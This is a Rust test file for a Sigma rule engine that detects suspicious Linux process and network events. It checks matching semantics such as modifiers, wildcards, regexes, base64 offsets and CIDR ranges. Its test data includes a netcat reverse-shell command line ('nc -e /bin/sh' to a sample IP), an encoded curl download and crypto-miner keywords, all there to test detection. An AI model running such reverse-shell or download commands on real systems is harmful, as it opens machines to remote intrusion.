//! The evaluator against the Sigma specification's semantics, with rules
//! written here.
use super::*;

fn rules(text: &str) -> SigmaRules {
    let dir = std::env::temp_dir().join(format!(
        "tracer-sigma-unit-{}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("r.yml"), text).unwrap();
    let r = SigmaRules::load(std::slice::from_ref(&dir)).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    r
}

static COUNTER: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);

fn rule(category: &str, detection: &str) -> String {
    format!(
        "title: t\nid: r1\nlevel: high\nlogsource:\n  product: linux\n  category: {category}\ndetection:\n{detection}\n"
    )
}

fn proc_rule(detection: &str) -> SigmaRules {
    let r = rules(&rule("process_creation", detection));
    assert!(r.summary.skipped.is_empty(), "{:?}", r.summary.skipped);
    r
}

fn matches(r: &mut SigmaRules, fields: &[(Field, &[u8])]) -> bool {
    let mut ev = SigmaEvent::new();
    for (f, v) in fields {
        ev.set(*f, v);
    }
    let mut hit = false;
    r.engine(Category::ProcessCreation)
        .evaluate(&ev, |_, _| hit = true);
    hit
}

#[test]
fn plain_values_are_whole_and_case_insensitive() {
    let mut r = proc_rule("  sel:\n    Image: /usr/bin/Curl\n  condition: sel");
    assert!(matches(&mut r, &[(Field::Image, b"/usr/bin/curl")]));
    assert!(!matches(&mut r, &[(Field::Image, b"/usr/bin/curl2")]));
    let mut r = proc_rule("  sel:\n    Image|cased: /usr/bin/Curl\n  condition: sel");
    assert!(!matches(&mut r, &[(Field::Image, b"/usr/bin/curl")]));
    assert!(matches(&mut r, &[(Field::Image, b"/usr/bin/Curl")]));
}

#[test]
fn contains_startswith_endswith_all() {
    let mut r = proc_rule(
        "  sel:\n    Image|endswith: /nc\n    CommandLine|contains|all:\n      - ' -e '\n      - /bin/sh\n  condition: sel",
    );
    assert!(matches(
        &mut r,
        &[
            (Field::Image, b"/usr/bin/nc"),
            (Field::CommandLine, b"nc -e /bin/sh 1.2.3.4")
        ]
    ));
    assert!(!matches(
        &mut r,
        &[
            (Field::Image, b"/usr/bin/nc"),
            (Field::CommandLine, b"nc -e /bin/bash")
        ]
    ));
    assert!(!matches(
        &mut r,
        &[
            (Field::Image, b"/usr/bin/ncat"),
            (Field::CommandLine, b"nc -e /bin/sh")
        ]
    ));
    let mut r = proc_rule(
        "  sel:\n    CommandLine|startswith:\n      - 'a'\n      - 'b'\n  condition: sel",
    );
    assert!(matches(&mut r, &[(Field::CommandLine, b"bx")]));
    assert!(!matches(&mut r, &[(Field::CommandLine, b"xb")]));
}

#[test]
fn wildcards() {
    let mut r = proc_rule("  sel:\n    Image: '/tmp/*/x?'\n  condition: sel");
    assert!(matches(&mut r, &[(Field::Image, b"/tmp/a/b/xy")]));
    assert!(!matches(&mut r, &[(Field::Image, b"/tmp/a/b/x")]));
    let mut r = proc_rule("  sel:\n    Image: '*/bash'\n  condition: sel");
    assert!(matches(&mut r, &[(Field::Image, b"/bin/BASH")]));
    let mut r = proc_rule("  sel:\n    Image: 'a\\*'\n  condition: sel");
    assert!(matches(&mut r, &[(Field::Image, b"a*")]));
    assert!(!matches(&mut r, &[(Field::Image, b"ab")]));
}

#[test]
fn not_and_or_of_patterns() {
    let mut r = proc_rule(
        "  selection_a:\n    Image|endswith: /a\n  selection_b:\n    Image|endswith: /b\n  filter:\n    CommandLine|contains: safe\n  condition: 1 of selection_* and not filter",
    );
    assert!(matches(
        &mut r,
        &[(Field::Image, b"/x/b"), (Field::CommandLine, b"run")]
    ));
    assert!(!matches(
        &mut r,
        &[(Field::Image, b"/x/b"), (Field::CommandLine, b"safe run")]
    ));
    assert!(!matches(&mut r, &[(Field::Image, b"/x/c")]));
    let mut r = proc_rule(
        "  s1:\n    Image|endswith: /a\n  s2:\n    CommandLine|contains: z\n  condition: all of them",
    );
    assert!(matches(
        &mut r,
        &[(Field::Image, b"/a"), (Field::CommandLine, b"zz")]
    ));
    assert!(!matches(&mut r, &[(Field::Image, b"/a")]));
}

#[test]
fn lists_of_maps_are_any() {
    let mut r = proc_rule(
        "  sel:\n    - Image|endswith: /a\n    - CommandLine|contains: q\n  condition: sel",
    );
    assert!(matches(&mut r, &[(Field::CommandLine, b"xqx")]));
    assert!(!matches(&mut r, &[(Field::CommandLine, b"x")]));
}

#[test]
fn regex_by_bytes() {
    let mut r = proc_rule("  sel:\n    CommandLine|re: 'x\\xff[0-9]+'\n  condition: sel");
    assert!(matches(&mut r, &[(Field::CommandLine, b"ax\xff12")]));
    assert!(!matches(&mut r, &[(Field::CommandLine, b"ax12")]));
    let mut r = proc_rule("  sel:\n    CommandLine|re|i: 'ABC'\n  condition: sel");
    assert!(matches(&mut r, &[(Field::CommandLine, b"xabc")]));
}

#[test]
fn literals_match_non_utf8_bytes() {
    let mut r = proc_rule("  sel:\n    CommandLine|contains: 'miner'\n  condition: sel");
    assert!(matches(
        &mut r,
        &[(Field::CommandLine, b"\xff\xfeminer\x80")]
    ));
}

#[test]
fn base64offset_contains() {
    let mut r =
        proc_rule("  sel:\n    CommandLine|base64offset|contains: 'curl http'\n  condition: sel");
    for prefix in ["", "x", "xy"] {
        let enc = compile::base64(format!("{prefix}curl http://a").as_bytes());
        let mut line = b"echo ".to_vec();
        line.extend_from_slice(&enc);
        assert!(matches(&mut r, &[(Field::CommandLine, &line)]), "{prefix}");
    }
    assert!(!matches(
        &mut r,
        &[(
            Field::CommandLine,
            b"echo Y3VybCBodHRw".to_ascii_lowercase().as_slice()
        )]
    ));
}

#[test]
fn windash_cidr_numbers_exists_null() {
    let mut r = proc_rule("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel");
    assert!(matches(&mut r, &[(Field::CommandLine, b"p /enc x")]));
    assert!(matches(
        &mut r,
        &[(Field::CommandLine, "p \u{2013}enc x".as_bytes())]
    ));
    let mut r = rules(&rule(
        "network_connection",
        "  sel:\n    DestinationIp|cidr: 127.0.0.0/8\n    DestinationPort|gte: 4000\n  condition: sel",
    ));
    let mut ev = SigmaEvent::new();
    ev.set(Field::DestinationIp, b"127.0.0.9");
    ev.set_num(Field::DestinationPort, 4444);
    let mut hit = false;
    r.engine(Category::NetworkConnection)
        .evaluate(&ev, |_, _| hit = true);
    assert!(hit);
    ev.set_num(Field::DestinationPort, 80);
    hit = false;
    r.engine(Category::NetworkConnection)
        .evaluate(&ev, |_, _| hit = true);
    assert!(!hit);
    let mut r = proc_rule(
        "  sel:\n    Image|endswith: /a\n    CurrentDirectory|exists: true\n  condition: sel",
    );
    assert!(!matches(&mut r, &[(Field::Image, b"/a")]));
    assert!(matches(
        &mut r,
        &[(Field::Image, b"/a"), (Field::CurrentDirectory, b"/")]
    ));
    let mut r =
        proc_rule("  sel:\n    Image|endswith: /a\n    ParentCommandLine: null\n  condition: sel");
    assert!(matches(&mut r, &[(Field::Image, b"/a")]));
    assert!(!matches(
        &mut r,
        &[(Field::Image, b"/a"), (Field::ParentCommandLine, b"x")]
    ));
}

#[test]
fn absent_fields_are_false_and_rules_on_them_unusable() {
    let r = rules(&rule(
        "process_creation",
        "  sel:\n    OriginalFileName: x.exe\n  condition: sel",
    ));
    assert_eq!(r.summary.loaded(), 0);
    assert!(
        r.summary.skipped[0].why.contains("unusable"),
        "{:?}",
        r.summary.skipped
    );
    let mut r = proc_rule(
        "  sel:\n    Image|endswith: /a\n  sel2:\n    Product: X\n  condition: sel and not sel2",
    );
    assert!(matches(&mut r, &[(Field::Image, b"/a")]));
}

#[test]
fn bad_rules_are_one_line_each() {
    for (text, why) in [
        (rule("process_creation", "  sel:\n    Image|nosuch: a\n  condition: sel"), "unknown modifier `nosuch`"),
        ("title: w\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n    Image: a\n  condition: s\n".to_string(), "product `windows`"),
        (rule("process_creation", "  sel:\n    Image: a\n  condition: sel and"), "condition"),
        ("title: [unclosed\n".to_string(), "not valid YAML"),
        (rule("process_creation", "  sel:\n    CommandLine|re: '('\n  condition: sel"), "bad regex"),
    ] {
        let r = rules(&text);
        assert_eq!(r.summary.loaded(), 0, "{text}");
        let line = r.summary.skipped[0].line();
        assert!(line.contains(why), "{line}");
        assert!(!line.contains('\n'));
    }
}

#[test]
fn metadata_and_severity() {
    let mut r = rules(
        "title: Meta\nid: 1234\nstatus: test\nauthor: me\nlevel: critical\ntags:\n  - attack.execution\n  - attack.t1059.004\nreferences:\n  - https://example.invalid/x\nfalsepositives:\n  - admins\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: /zz\n  condition: sel\n",
    );
    let mut ev = SigmaEvent::new();
    ev.set(Field::Image, b"/tmp/zz");
    let p = Process::default();
    let f = r.findings(Category::ProcessCreation, &ev, &p, Vec::new);
    assert_eq!(f.len(), 1);
    let s = f[0].sigma.as_ref().unwrap();
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(s.rule_id, "1234");
    assert_eq!(s.attack, vec!["T1059.004"]);
    assert_eq!(s.author.as_deref(), Some("me"));
    assert_eq!(s.matched[0].field, "Image");
    assert_eq!(s.falsepositives, vec!["admins"]);
}

#[test]
fn only_candidate_rules_are_evaluated_but_negations_always_are() {
    let r = proc_rule(
        "  sel:\n    Image|endswith: /a\n  f:\n    CommandLine: x\n  condition: sel and not f",
    );
    assert!(r.engines[0].rules[0].detection.triggered_by_literals());
    let r = proc_rule("  f:\n    CommandLine: x\n  condition: not f");
    assert!(!r.engines[0].rules[0].detection.triggered_by_literals());
}
